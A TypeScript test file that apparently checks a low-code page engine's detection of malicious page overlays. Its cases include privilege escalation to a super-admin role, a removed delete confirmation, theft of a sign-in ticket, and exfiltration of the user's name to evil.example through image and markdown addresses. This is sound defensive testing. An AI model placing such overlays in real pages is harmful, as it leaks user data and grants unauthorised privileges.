import { beforeAll, describe, expect, it } from 'vitest';
import type { Json, OverlayOperation } from '#engine/document';
import { type ChangedPages, readChangedPages } from '#tests/security/changed-page.ts';
import {
  button,
  codesOf,
  positions,
  put,
  set,
  setPage,
  shippedAt,
  staff,
  text,
  workbench,
  write,
} from '#tests/security/changes.ts';

let pages: ChangedPages;
beforeAll(async () => {
  pages = await readChangedPages();
});

const grant = {
  do: 'call',
  call: 'updateAccount',
  with: { id: '01JD3Q4V9M8X2T6W5R7Y1Z0ABC', roles: ['WORKSPACE_SUPER_ADMIN'] },
};

describe('P43 attack 2: an overlay acts for its reader', () => {
  it.each<[string, string, () => OverlayOperation[], string[]]>([
    ['loading grants a role', staff, () => [setPage(['load'], [grant])], ['CHANGE_CALL', 'CHANGE_GESTURE']],
    [
      'a failing call grants a role',
      staff,
      () => [setPage(['data', 'mine'], { call: 'listNotifications', catch: [grant] })],
      ['CHANGE_CALL', 'CHANGE_GESTURE'],
    ],
    ['a press grants a role', staff, () => [put('page', button([grant]))], ['CHANGE_CALL']],
    [
      'a named list grants a role',
      staff,
      () => [setPage(['actions', 'mine'], [grant]), put('page', button([{ do: 'run', actions: 'mine' }]))],
      ['CHANGE_CALL'],
    ],
    [
      'a shipped list grants a role when it is run',
      staff,
      () => [setPage(['actions', 'first'], [grant], pages.source(staff).actions?.['first'] as unknown as Json)],
      ['CHANGE_CALL', 'CHANGE_GESTURE'],
    ],
    [
      'a button of a page for all grants a role to its author',
      workbench,
      () => [put('page', { ...button([grant]), roles: 'accountAdmins' })],
      ['CHANGE_CALL'],
    ],
    [
      'only the selection is written, which a shipped delete reads',
      staff,
      () => [setPage(['load'], [{ do: 'setState', path: 'state.selection', value: ['01JD3Q4V9M8X2T6W5R7Y1Z0ABC'] }])],
      ['CHANGE_STATE'],
    ],
    [
      'a field of the change is bound to the selection',
      staff,
      () => [
        put('page', { id: 'x.list', widget: 'TextList', props: { label: text('Names') }, bind: 'state.selection' }),
      ],
      ['CHANGE_STATE'],
    ],
    [
      'the selection begins with somebody',
      staff,
      () => [setPage(['state', 'selection', 'default'], ['01JD3Q4V9M8X2T6W5R7Y1Z0ABC'], [])],
      ['CHANGE_STATE'],
    ],
    [
      'the table shows other rows than are deleted',
      staff,
      () => [
        set(
          'table',
          ['props', 'rows'],
          { $: "data.people.items.map(one, merge(one, {'id': 'other'}))" },
          { $: 'data.people.items' },
        ),
      ],
      ['CHANGE_FEEDS'],
    ],
    [
      'another word on the button that deletes',
      positions,
      () => [set('delete', ['props', 'label'], text('Show'), { t: 'organisation.positions.delete' })],
      ['CHANGE_SEALED'],
    ],
    [
      'another role set for a sealed section that has one',
      'workbench.home',
      () => [set('setup', ['roles'], 'workspaceSuper', 'workspaceAdmins')],
      ['CHANGE_SEALED'],
    ],
    [
      'the question before deleting is taken away',
      positions,
      () => {
        const click = shippedAt(pages, positions, 'delete', 'on', 'click');
        return [set('delete', ['on', 'click'], Array.isArray(click) ? click.slice(1) : null, click)];
      },
      ['CHANGE_CALL', 'CHANGE_SEALED'],
    ],
    [
      'the drawer of a person is opened for somebody else',
      staff,
      () => [put('page', button([{ do: 'openDrawer', drawer: 'person', with: { id: '01JD3Q4V9M8X2T6W5R7Y1Z0ABC' } }]))],
      ['CHANGE_ARGUMENT'],
    ],
    [
      'a timer writes',
      workbench,
      () => [
        setPage(['state', 'seconds'], { type: 'number' }),
        put(
          'page',
          button([
            {
              do: 'startCountdown',
              path: 'state.seconds',
              seconds: 1,
              then: [write],
            },
          ]),
        ),
      ],
      ['CHANGE_GESTURE'],
    ],
    [
      'a changed value writes',
      workbench,
      () => [
        setPage(['state', 'mine'], { type: 'string' }),
        put('page', {
          id: 'x.field',
          widget: 'TextField',
          props: { label: text('Mine') },
          bind: 'state.mine',
          on: { change: [write] },
        }),
      ],
      ['CHANGE_GESTURE'],
    ],
    [
      'a list that a press and loading run writes',
      workbench,
      () => [
        setPage(['actions', 'mine'], [write]),
        setPage(['load'], [{ do: 'run', actions: 'mine' }]),
        put('page', button([{ do: 'run', actions: 'mine' }])),
      ],
      ['CHANGE_GESTURE'],
    ],
    [
      'loading posts to the window around',
      workbench,
      () => [setPage(['load'], [{ do: 'postMessage', type: 'opened' }])],
      ['CHANGE_GESTURE'],
    ],
    [
      'a name by which the product stores values is written',
      workbench,
      () => [put('page', button([{ do: 'keep', key: 'account', value: 'somebody' }]))],
      ['CHANGE_KEY'],
    ],
    [
      'a dialog of the product ends with a result of the change',
      staff,
      () => [put('addForm', button([{ do: 'closeDrawer', result: { id: '01JD3Q4V9M8X2T6W5R7Y1Z0ABC' } }]))],
      ['CHANGE_ARGUMENT', 'CHANGE_CLOSED'],
    ],
    [
      'the ticket in the address of a page that signs in is taken',
      'entry.shadow-user',
      () => [setPage(['actions', 'mine'], [{ do: 'keep', key: 'x.stolen', value: { $: 'query.ticket' } }])],
      ['CHANGE_CLOSED'],
    ],
    [
      'data comes with the page',
      'errors.404',
      () =>
        Array.from({ length: 8 }, (_, index) =>
          setPage(['data', `more${index}`], { call: 'getEnvironment', with: {}, preload: true }),
        ),
      ['CHANGE_PRELOAD'],
    ],
    [
      'data asks for accounts',
      staff,
      () => [setPage(['data', 'more'], { call: 'listAccounts', with: {} })],
      ['CHANGE_CALL'],
    ],
    [
      'a name in the address of a picture of another site',
      workbench,
      () => [
        put('page', {
          id: 'x.pixel',
          widget: 'Image',
          props: { alt: text('Picture'), src: { $: "'https://evil.example/?' + user.user.real_name" } },
        }),
      ],
      ['CHANGE_ADDRESS'],
    ],
    [
      'a name in a link of a text',
      workbench,
      () => [
        put('page', {
          id: 'x.markdown',
          widget: 'Markdown',
          props: { text: { $: "'![](https://evil.example/?' + user.user.real_name + ')'" } },
        }),
      ],
      ['CHANGE_ADDRESS'],
    ],
    ...(['RichText', 'ImageUpload', 'Signature'] as const).map(
      (widget): [string, string, () => OverlayOperation[], string[]] => [
        `a name in the state that a ${widget} shows as an address`,
        workbench,
        () => [
          setPage(['state', 'mine'], { type: 'string', default: '' }),
          setPage(
            ['load'],
            [
              {
                do: 'setState',
                path: 'state.mine',
                value: { $: "'[more](https://evil.example/?' + user.user.real_name + ')'" },
              },
            ],
          ),
          put('page', { id: 'x.shown', widget, props: { label: text('Text') }, bind: 'state.mine' }),
        ],
        ['CHANGE_ADDRESS'],
      ],
    ),
    [
      'a name that was stored on the device is recalled into formatted text',
      workbench,
      () => [
        setPage(['state', 'mine'], { type: 'string', default: '' }),
        setPage(['load'], [{ do: 'recall', key: 'x.mine', path: 'state.mine' }]),
        put('page', { id: 'x.shown', widget: 'RichText', props: { label: text('Text') }, bind: 'state.mine' }),
      ],
      ['CHANGE_ADDRESS'],
    ],
    [
      'a fragment of the product is put where it has no place',
      workbench,
      () => [put('page', { id: 'x.own', fragment: 'account.own', params: { to: '/workbench' } })],
      ['CHANGE_CALL'],
    ],
    ['a button signs out', workbench, () => [put('page', button([{ do: 'signOut' }]))], ['CHANGE_CALL']],
    [
      'the one-time password is shown in another way',
      staff,
      () => [put('secret', { id: 'x.text', widget: 'Text', props: { text: { $: 'params.password' } } })],
      ['CHANGE_CLOSED', 'CHANGE_SECRET'],
    ],
  ])('%s', (_title, id, operations, expected) => {
    expect(codesOf(pages, id, ...operations())).toEqual(expected);
  });
});
